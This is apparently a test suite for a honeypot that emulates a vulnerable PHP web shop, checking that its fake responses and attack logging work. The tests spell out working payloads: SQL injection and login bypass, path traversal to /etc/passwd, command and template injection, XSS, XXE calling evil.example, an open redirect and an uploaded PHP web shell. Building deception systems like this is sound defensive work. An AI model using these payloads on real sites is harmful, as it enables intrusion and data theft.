import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity } from '../../../src/config/identity.ts'
import webApp from '../../../src/emulators/web-app/index.ts'
import { createHosts } from '../../../src/host/hosts.ts'
import { MemoryState, noEngine, type Playing, play } from '../../harness.ts'

let playing: Playing
let base: string

async function playShop(options: Record<string, unknown> = {}): Promise<Playing> {
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  return play(webApp, { persona: 'debian-web', identity, state, hosts: createHosts({ identity, engine: noEngine, state }), options })
}

beforeAll(async () => {
  playing = await playShop()
  base = `http://127.0.0.1:${playing.port()}`
})

afterAll(async () => {
  await playing.stop()
})

const get = async (target: string, init: RequestInit = {}): Promise<string> =>
  (await fetch(base + target, { redirect: 'manual', ...init })).text()
const form = (fields: Record<string, string>, headers: Record<string, string> = {}): RequestInit => ({
  method: 'POST',
  body: new URLSearchParams(fields),
  headers,
})

function attack(name: string): { worked: boolean; value: unknown } | undefined {
  return playing.data<{ class: string; worked: boolean; value: unknown }>('web-app.attack').findLast((one) => one.class === name)
}

describe('the shop', () => {
  it('sells: products, search, cart, order', async () => {
    expect(await get('/')).toContain('Fjell 2 Tent')
    expect(await get('/index.php?id=4')).toMatch(/<h1>Fjell 2 Tent<\/h1>.*389\.00.*Survived a storm/s)
    expect(await get('/search.php?q=rope')).toContain('1 results for rope')
    expect(await get('/category.php?cat=3')).toContain('Lumen 900')
    const first = await fetch(`${base}/cart.php`, form({ product: '4' }))
    const Cookie = first.headers.get('set-cookie')!.split(';')[0]!
    expect(await get('/cart.php', { headers: { Cookie } })).toMatch(/Fjell 2 Tent.*Total &euro; 389\.00/s)
    expect(await get('/cart.php', form({ order: '1', address: 'x', card: '4111' }, { Cookie }))).toContain('Thank you')
    expect(await get('/export.php?table=orders')).toContain('4111')
    expect((await fetch(`${base}/nothing`)).status).toBe(404)
  })

  it('lets who registers in, and nobody else through the door', async () => {
    await get('/register.php', form({ username: 'eve', email: 'e@x', password: 'pw' }))
    const wrong = await fetch(`${base}/login.php`, form({ username: 'eve', password: 'no' }))
    expect(await wrong.text()).toContain('Wrong user name')
    const right = await fetch(`${base}/login.php`, { redirect: 'manual', ...form({ username: 'eve', password: 'pw' }) })
    expect(right.headers.get('location')).toBe('/account.php')
    expect(playing.data('login').map(({ accepted }) => accepted)).toEqual([true, false, true])
    expect((await fetch(`${base}/admin/`, { redirect: 'manual' })).headers.get('location')).toBe('/login.php')
  })
})

describe('SQL injection', () => {
  it("answers a quote in the server's words", async () => {
    expect(await get("/index.php?id=1'")).toContain(
      "Uncaught mysqli_sql_exception: You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near ''' at line 1",
    )
    expect(attack('sql')).toMatchObject({ worked: true, value: "1'" })
  })

  it('gives rows to UNION, a difference to AND, time to SLEEP', async () => {
    expect(await get('/index.php?id=-1+UNION+SELECT+1,username,password,4,5+FROM+users+WHERE+id=1')).toMatch(
      /<h1>admin<\/h1><p>[0-9a-f]{32}<\/p>/,
    )
    expect(await get('/index.php?id=1+AND+1=1')).toContain('Traverse 45')
    expect(await get('/index.php?id=1+AND+1=2')).toContain('no longer sold')
    expect(await get('/index.php?id=1+AND+extractvalue(1,concat(0x7e,version()))')).toContain(
      "XPATH syntax error: '~10.11.14-MariaDB-0+deb12u2'",
    )
    const startedAt = performance.now()
    await get('/index.php?id=1+AND+SLEEP(0.4)')
    expect(performance.now() - startedAt).toBeGreaterThan(390)
    expect(playing.data('web-app.sql').at(-1)).toMatchObject({ delayMs: 400 })
  })

  it('lets an injected name in, and its admin see secrets that tell on him', async () => {
    const answer = await fetch(`${base}/login.php`, { redirect: 'manual', ...form({ username: "admin' -- -", password: 'x' }) })
    expect(answer.headers.get('location')).toBe('/admin/')
    const Cookie = answer.headers.get('set-cookie')!.split(';')[0]!
    const settings = await get('/admin/?view=settings', { headers: { Cookie } })
    expect(settings).toMatch(/stripe_secret<\/td><td>sk_live_/)
    const preview = await get('/admin/template.php', form({ template: "{{['id']|filter('system')}}" }, { Cookie }))
    expect(preview).toContain('uid=33(www-data)')
    expect(playing.data('web-app.admin').length).toBeGreaterThan(0)
  })
})

describe('the other holes', () => {
  it.each([
    ['lfi', '/index.php?file=../../../../etc/passwd', /root:x:0:0/],
    ['lfi', '/index.php?page=php://filter/convert.base64-encode/resource=../config.php', /PD9waHA/],
    ['rfi', '/index.php?page=http://203.0.113.7/x.txt', /http:\/\/ wrapper is disabled in the server configuration by allow_url_include=0/],
    ['command', '/?x=%3Bid', /uid=33\(www-data\)/],
    ['command', '/intranet/ping.php?host=127.0.0.1;id', /uid=33\(www-data\)/],
    ['template', '/?p={{7*7}}', /<main class="wide">49/],
    ['template', "/?p={{7*'7'}}", /<main class="wide">49/],
    ['code', '/?a=phpinfo();', /PHP Version 8\.2/],
    ['code', '/?a=echo+md5(7);', /8f14e45fceea167a5a36dedd4bea2543/],
    ['xss', '/?c=%3Cscript%3Ealert(1)%3C/script%3E', /<script>alert\(1\)<\/script>/],
    ['xss', '/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E', /results for <script>alert\(1\)<\/script>/],
    ['unserialize', `/?insert=${encodeURIComponent('O:15:"ObjectInjection":1:{s:6:"insert";s:2:"id";}')}`, /uid=33\(www-data\)/],
  ])('%s: %s', async (name, target, expected) => {
    expect(await get(target)).toMatch(expected)
    expect(attack(name)).toMatchObject({ class: name, worked: name !== 'rfi' })
  })

  it('parses XML with its entities, and never follows their addresses', async () => {
    const xml = (entity: string): RequestInit => ({
      method: 'POST',
      headers: { 'Content-Type': 'text/xml' },
      body: `<?xml version="1.0"?><!DOCTYPE a [${entity}]><a><name>&x;</name></a>`,
    })
    expect(await get('/api', xml('<!ENTITY x SYSTEM "file:///etc/passwd">'))).toContain('root:x:0:0')
    await get('/api', xml('<!ENTITY x SYSTEM "http://evil.example/x">'))
    expect(playing.data('indicator')).toContainEqual({ kind: 'url', value: 'http://evil.example/x', how: 'web-app.xml' })
    const bomb = Array.from({ length: 9 }, (_, n) => `<!ENTITY x${n || ''} "${`&x${n + 1};`.repeat(10)}">`).join('')
    const startedAt = performance.now()
    expect((await get('/api', xml(bomb))).length).toBeLessThan(200_000)
    expect(performance.now() - startedAt).toBeLessThan(2_000)
  })

  it('splits headers, redirects anywhere, keeps comments as they were sent', async () => {
    expect((await fetch(`${base}/?u=x%0d%0aX-Test:1`)).headers.get('x-test')).toBe('1')
    const away = await fetch(`${base}/redirect.php?url=http://evil.example/`, { redirect: 'manual' })
    expect(away.headers.get('location')).toBe('http://evil.example/')
    await get('/comment.php', form({ product: '2', author: 'x', comment: '<img src=x onerror=alert(1)>' }))
    expect(await get('/index.php?id=2')).toContain('<img src=x onerror=alert(1)>')
  })

  it('runs the web shell that was uploaded, keeps it, and includes it', async () => {
    const body = new FormData()
    body.set('file', new Blob(['<?php system($_GET["c"]); ?>']), 'a.php')
    expect(await get('/upload.php', { method: 'POST', body })).toContain('/uploads/a.php')
    expect(await get('/uploads/a.php?c=id')).toContain('uid=33(www-data)')
    expect(await get('/index.php?page=../uploads/a.php&c=whoami')).toContain('www-data')
    expect(playing.data('web-app.upload')[0]).toMatchObject({ name: 'a.php', path: '/uploads/a.php' })
  })

  it('shows the source of the shop with a password that tells on its reader', async () => {
    const page = await get('/index.php?page=php://filter/convert.base64-encode/resource=../config.php')
    const source = Buffer.from(/PD9waHA[\w+/=]+/.exec(page)![0], 'base64').toString()
    const password = /'DB_PASS', '(\w{14})'/.exec(source)![1]!
    await get('/login.php', form({ username: 'shop', password }))
    expect(playing.events.some(({ type }) => type === 'honeytoken.returned')).toBe(true)
  })
})

describe('what is written down', () => {
  it('techniques of ATT&CK, and what a session is like', async () => {
    const event = playing.events.findLast(({ type, data }) => type === 'web-app.attack' && (data as { class: string }).class === 'command')!
    expect(event.tags).toEqual(expect.arrayContaining(['attack:T1190', 'attack:T1059.004']))
    await playing.exchange('GET /?x=%3Bid HTTP/1.1\r\nHost: x\r\nUser-Agent: probe\r\nConnection: close\r\n\r\n')
    const profile = await playing.seen('web-app.profile')
    expect(profile.data).toMatchObject({ kind: 'attacker' })
    expect(playing.deadLetters).toEqual([])
    expect(playing.events.filter(({ type }) => type === 'lure.fault')).toEqual([])
  })
})

describe('a saved site', () => {
  const folder = mkdtempSync(join(tmpdir(), 'saved-'))
  afterAll(() => rmSync(folder, { recursive: true }))

  it('is shown in the place of the shop, with the same holes', async () => {
    writeFileSync(join(folder, 'index.html'), '<html><body>A saved page</body></html>')
    writeFileSync(join(folder, 'about.html'), 'About')
    const other = await playShop({ site: folder })
    try {
      const url = `http://127.0.0.1:${other.port()}`
      expect(await (await fetch(url)).text()).toContain('A saved page')
      expect(await (await fetch(`${url}/about`)).text()).toBe('About')
      expect(await (await fetch(`${url}/?x=%3Bid`)).text()).toContain('<div>uid=33(www-data)')
      expect((await fetch(`${url}/nothing`)).status).toBe(404)
      await fetch(url, form({ email: 'a@b', pass: 'pw' }))
      expect(other.data('login')[0]).toMatchObject({ username: 'a@b', password: 'pw', accepted: false })
    } finally {
      await other.stop()
    }
  })
})
